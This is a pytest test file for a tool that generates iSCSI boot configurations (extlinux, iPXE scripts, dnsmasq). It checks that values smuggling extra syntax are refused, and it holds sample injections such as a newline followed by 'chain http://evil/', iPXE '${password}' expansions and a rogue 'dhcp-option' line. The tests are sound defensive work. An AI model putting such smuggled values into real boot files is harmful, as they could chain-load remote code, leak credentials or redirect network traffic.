"""Values that would change the syntax of a generated file are refused, in every format.

Each case names the value's option, and the checks read the output back with
the consuming program's own rules: the project's extlinux reader, the iPXE
script reader (iPXE's tokenisation) and ``dnsmasq --test``.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from iscsiboot.cli import main
from iscsiboot.cmdline import generate
from iscsiboot.cmdline.ipxescript import Command, check_word, expands, read_script
from iscsiboot.disk.inspect import parse_extlinux
from iscsiboot.errors import RepresentError, UsageError
from iscsiboot.model import BootConfig, Chap, Locator, LocatorKind, NetMode, Network, Target, from_dict
from iscsiboot.secret import Secret

INI = "iqn.2024-01.lab:htpc"
SECRET = "a-long-chap-secret"
T1 = Target("iqn.2024-01.lab:disk", "10.0.2.2", lun=1, chap=Chap("htpc", Secret(SECRET)))
BREAKS = ["\n", "\r", "\f", "\v", "\x85", "\u2028", "\u2029", "\x00", "\x1b", "\x7f", "\ud800"]
TARGET_ARGS = ["--initiator", INI, "--target-name", T1.name, "--target-ip", "10.0.2.2", "--lun", "1"]


def _model(**changes: object) -> BootConfig:
    base: dict[str, object] = {
        "initiator": INI,
        "targets": (T1,),
        "network": Network(mode=NetMode.DHCP),
        "system": Locator.parse("LABEL=System"),
        "storage": Locator.parse("LABEL=Storage"),
    }
    base.update(changes)
    return BootConfig(**base)  # type: ignore[arg-type]


def _cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


# ---------------------------------------------------------------- extlinux and the command line


@pytest.mark.parametrize("char", BREAKS)
def test_extlinux_refuses_line_breaks_in_every_value(char: str) -> None:
    # the model itself refuses a NUL and a lone surrogate in a locator (tests/unit/test_core_model.py)
    label = Locator(LocatorKind.LABEL, f"Sys{char}KERNEL /evil") if char not in ("\x00", "\ud800") else None
    cases: list[tuple[dict[str, object], str]] = [
        ({"append_extra": (f"quiet{char}KERNEL",)}, "--append"),
        ({"kernel": f"/KERNEL{char}APPEND"}, "--kernel"),
        ({"initrd": f"/initrd{char}APPEND"}, "--initrd"),
    ]
    for options, option in cases:
        with pytest.raises(RepresentError, match=option):
            generate.extlinux(_model(), **options)  # type: ignore[arg-type]
    if label is not None:
        for role in ("system", "storage"):
            with pytest.raises(RepresentError, match=f"--{role}"):
                generate.extlinux(_model(**{role: label}))
            with pytest.raises(RepresentError, match=f"--{role}"):
                generate.cmdline(_model(**{role: label}))


def test_extlinux_cli_refuses_a_newline_in_append_in_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = _cli(capsys, "generate", "extlinux", "--append", "quiet\nKERNEL /evil")
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and "--append" in err and "U+000A" in err


def test_extlinux_reads_back_one_entry() -> None:
    text = generate.extlinux(_model(), initrd="/initrd", append_extra=("quiet", 'x="a b"')).text
    conf = parse_extlinux(text)
    assert [label.name for label in conf.labels] == ["linux"]
    entry = conf.entry()
    assert entry is not None and entry.kernel == "/KERNEL" and entry.initrd == "/initrd"
    assert entry.append is not None and entry.append.endswith('quiet x="a b"')
    with pytest.raises(RepresentError, match="unbalanced"):
        generate.extlinux(_model(), append_extra=('x="a',))


def test_a_label_with_the_byte_a0_is_quoted_for_the_kernel() -> None:
    # "à" is C3 A0 in UTF-8, and the kernel's isspace() is true for 0xA0
    text = generate.cmdline(BootConfig(firmware=True, system=Locator.parse("LABEL=Syst\u00e0me"))).text
    assert text == 'boot="ISCSI=auto,LABEL=Syst\u00e0me"'


@pytest.mark.parametrize("char", ["\x1b", "\x01", "\x7f", "\x9b"])
def test_control_characters_in_names_are_refused_on_the_command_line(char: str) -> None:
    with pytest.raises(RepresentError, match="--target-name"):
        generate.cmdline(_model(targets=(Target(f"iqn.2024-01.lab:d{char}x", "10.0.0.1"),)))
    with pytest.raises(RepresentError, match="--initiator"):
        generate.cmdline(_model(initiator=f"iqn.2024-01.lab:h{char}"))
    with pytest.raises(RepresentError, match="--target-name"):
        generate.dracut(_model(targets=(Target(f"iqn.2024-01.lab:d{char}x", "10.0.0.1"),), storage=None))


# ---------------------------------------------------------------- iPXE


@pytest.mark.parametrize("value", ["#hidden", "||", "&&", ";", "ab${password}", "trailing\\"])
def test_ipxe_refuses_credentials_iPXE_reads_otherwise(value: str) -> None:
    chaps = {
        "--username": Chap(value, Secret(SECRET)),
        "--password": Chap("htpc", Secret(value)),
    }
    for option, chap in chaps.items():
        target = Target(T1.name, T1.address, lun=1, chap=chap)
        with pytest.raises(RepresentError, match=option) as info:
            generate.ipxe(_model(targets=(target,)))
        if option == "--password":
            assert value not in str(info.value)
    reverse = Target(T1.name, T1.address, lun=1, chap=T1.chap, reverse_chap=Chap("tgt", Secret(value)))
    with pytest.raises(RepresentError, match="--reverse-password"):
        generate.ipxe(_model(targets=(reverse,)))


@pytest.mark.parametrize("name", ["#iqn.2024-01.lab:h", "iqn.2024-01.lab:${password}", "||"])
def test_ipxe_refuses_an_initiator_iPXE_reads_otherwise(name: str) -> None:
    with pytest.raises(RepresentError, match="--initiator"):
        generate.ipxe(_model(initiator=name))


def test_ipxe_refuses_an_expansion_in_the_storage_target_name_from_json() -> None:
    obj = {
        "initiator": INI,
        "targets": [
            {"name": T1.name, "address": "10.0.2.2", "lun": 1},
            {"name": "iqn.2024-01.lab:s${password}", "address": "10.0.2.3"},
        ],
        "storage_on_iscsi": True,
        "system": "LABEL=System",
        "storage": "LABEL=Storage",
    }
    with pytest.raises(RepresentError, match=r"targets\[1\]"):
        generate.ipxe(from_dict(obj))


def test_ipxe_quotes_the_embed_path_and_refuses_a_newline() -> None:
    text = generate.ipxe(_model(), embed_path="/tmp/my boot\\.ipxe").text
    assert "#   make bin/ipxe.usb EMBED='/tmp/my boot\\.ipxe'" in text
    with pytest.raises(RepresentError, match="-o"):
        generate.ipxe(_model(), embed_path="/tmp/x\nchain http://evil/")
    # a path ending in a backslash would continue the comment over the next line
    script = read_script(generate.ipxe(_model(), embed_path="/tmp/x\\", embedded=True).text)
    assert "retry_dhcp" in script.labels()


def test_ipxe_passes_quotes_and_dollars_as_iPXE_does() -> None:
    secret = "pa$$\"w'ord-1234"
    target = Target(T1.name, T1.address, lun=1, chap=Chap("htpc", Secret(secret)))
    script = read_script(generate.ipxe(_model(targets=(target,))).text)
    sets = {c.words[1]: c.words[2:] for c in script.commands() if c.words[0] == "set"}
    assert sets == {"initiator-iqn": (INI,), "username": ("htpc",), "password": (secret,)}
    assert not any(expands(w) for c in script.commands() for w in c.words)


def test_ipxe_cli_names_the_option_in_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = _cli(
        capsys, "generate", "ipxe", *TARGET_ARGS, "--username", "htpc", "--password", "#" + SECRET
    )
    assert code == 2 and out == "" and err.count("\n") == 1
    assert "--password" in err and SECRET not in err


def test_ipxe_script_reader_follows_iPXE() -> None:
    text = "#!ipxe\r\n  :start echo a # b || c\nset x y \\\n  z || goto start ; echo ${x}\n#tail\nlast\\"
    script = read_script(text)
    first, second, comment = script.lines[1:]
    assert first.label == "start" and first.comment == ("#", "b", "||", "c")
    assert [c.words for c in first.commands] == [("echo", "a")]
    assert [(c.words, c.terminator) for c in second.commands] == [
        (("set", "x", "y", "z"), "||"),
        (("goto", "start"), ";"),
        (("echo", "${x}"), None),
    ]
    assert comment.commands == (Command(()),) and comment.comment == ("#tail",) and script.dangling
    assert expands("${x}") and expands("a${b:string}c") and not expands("$x") and not expands("${x")
    with pytest.raises(UsageError):
        read_script("echo hi\n")
    assert check_word("pa$s\"'", "secret") == "pa$s\"'"


# ---------------------------------------------------------------- dnsmasq


def _dnsmasq_test(tmp_path: Path, text: str) -> subprocess.CompletedProcess[str]:
    dnsmasq = shutil.which("dnsmasq") or "/usr/sbin/dnsmasq"
    if not Path(dnsmasq).exists():
        pytest.skip("dnsmasq is not installed")
    conf = tmp_path / "dnsmasq.conf"
    conf.write_text(text)
    return subprocess.run([dnsmasq, "--test", "-C", str(conf)], capture_output=True, text=True, check=False)


@pytest.mark.parametrize("name", ['iqn.2024-01.lab:a"b', "iqn.2024-01.lab:a\\b", "iqn.2024-01.lab:a#b"])
def test_dnsmasq_refuses_quotes_and_backslashes_in_target_names(name: str) -> None:
    with pytest.raises(RepresentError, match="--target-name"):
        generate.dnsmasq(_model(targets=(Target(name, "10.0.0.1"),)))
    with pytest.raises(RepresentError, match="--target-name"):
        generate.root_path(Target(name, "10.0.0.1"))


def test_dnsmasq_root_path_has_at_most_255_bytes() -> None:
    host = ".".join(["h" + "a" * 60] * 3)
    name = "iqn.2024-01.lab:" + "n" * 70
    with pytest.raises(RepresentError, match="option 17"):
        generate.dnsmasq(_model(targets=(Target(name, host),)))


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("tftp_root", "/srv/a\\b"),
        ("tftp_root", "/srv/a,eth1"),
        ("interface", "eth0,eth1"),
        ("script", "boot.ipxe\ndhcp-option=3,1.2.3.4"),
        ("dhcp_range", "10.0.0.1,10.0.0.9#x"),
    ],
)
def test_dnsmasq_refuses_syntax_in_its_own_values(option: str, value: str) -> None:
    with pytest.raises(RepresentError):
        generate.dnsmasq(_model(), **{option: value})  # type: ignore[arg-type]


def test_dnsmasq_files_pass_dnsmasq_test(tmp_path: Path) -> None:
    cfg = _model(targets=(T1, Target("iqn.2024-01.lab:storage", "fd00::2", port=3261)), storage_on_iscsi=True)
    for options in ({}, {"interface": "eth0", "dhcp_range": "10.0.0.100,10.0.0.200,1h", "dns": False}):
        done = _dnsmasq_test(tmp_path, generate.dnsmasq(cfg, **options).text)  # type: ignore[arg-type]
        assert done.returncode == 0, done.stderr
